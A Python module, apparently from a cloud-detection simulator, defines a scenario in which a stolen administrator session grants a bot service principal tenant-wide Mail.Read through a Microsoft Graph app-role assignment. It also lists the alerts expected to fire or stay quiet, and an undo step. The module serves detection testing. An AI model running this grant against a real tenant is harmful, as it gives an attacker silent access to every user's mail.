"""An administrator's session grants the bot everybody's mail."""

from typing import Final

from sekimori.sim import world
from sekimori.sim.attack import Attacker
from sekimori.sim.entra.directory import GRAPH_APP
from sekimori.sim.plan import Plan, Step

ID: Final = "permission_granted"
TITLE: Final = {"ja": "アプリケーション許可を付与", "en": "Grant an application permission"}
STORY: Final = {
    "ja": "盗んだ管理者セッションで、テナント全員のメールを読む権限をボットに与える。要求も同意画面も要らない。",
    "en": "With an administrator's stolen session the bot is granted everybody's mail: no request, no consent screen.",
}
ATTACK: Final = ("T1098.003",)
MUST_FIRE: Final = ("permission_granted", "graph_permission_write")
MUST_STAY_QUIET: Final = (
    "service_principal_sign_in",
    "permission_requested",
    "federated_credential_added",
    "client_credential_added",
)
TELLING: Final = ("AppRole.Value",)
PLAN: Final = Plan(
    permissions=(
        "Application.Read.All",
        "AppRoleAssignment.ReadWrite.All",
    ),
    steps=(
        Step(
            method="POST",
            path="/servicePrincipals/{principal_id}/appRoleAssignments",
            body={
                "principalId": "{principal_id}",
                "resourceId": "{graph_id}",
                "appRoleId": "810c84a8-4a9e-49e6-bf7d-12d183f40d01",
            },
            keep={"assignment_id": "id"},
        ),
    ),
    undo=(Step(method="DELETE", path="/servicePrincipals/{principal_id}/appRoleAssignments/{assignment_id}"),),
)


async def detonate(attacker: Attacker) -> None:
    """Grant Mail.Read to the bot."""
    role = "810c84a8-4a9e-49e6-bf7d-12d183f40d01"  # Mail.Read
    body = {"principalId": world.SERVICE_PRINCIPAL, "resourceId": GRAPH_APP, "appRoleId": role}
    await attacker.administer("POST", f"/servicePrincipals/{world.SERVICE_PRINCIPAL}/appRoleAssignments", body)
